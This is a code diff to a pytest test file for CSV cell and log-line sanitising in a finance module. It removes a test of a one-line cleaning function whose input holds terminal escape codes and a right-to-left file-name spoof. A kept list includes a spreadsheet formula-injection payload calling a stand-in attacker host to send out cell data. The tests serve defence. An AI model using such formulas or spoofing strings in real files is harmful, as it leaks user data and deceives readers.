@@ -6,7 +6,7 @@ from decimal import Decimal
 
 import pytest
 
-from finance_hooks.model.plain_text import csv_cell, one_line
+from finance_hooks.model.plain_text import csv_cell
 
 FORMULAS = [
     '=HYPERLINK("https://evil.example/?"&A1,"open")',
@@ -58,9 +58,3 @@ def test_what_is_no_text_stays_as_it_is(value: object) -> None:
 )
 def test_harmless_text_stays_as_it_is(text: str) -> None:
     assert csv_cell(text) == text
-
-
-def test_a_line_has_no_end_no_escape_and_one_reading_order() -> None:
-    text = "F1\r\n2026-11-01 INFO booked\x1b[2J\x07\u202egpj.exe\u2028\x9b31m"
-
-    assert one_line(text) == "F1 2026-11-01 INFO booked [2J gpj.exe 31m"
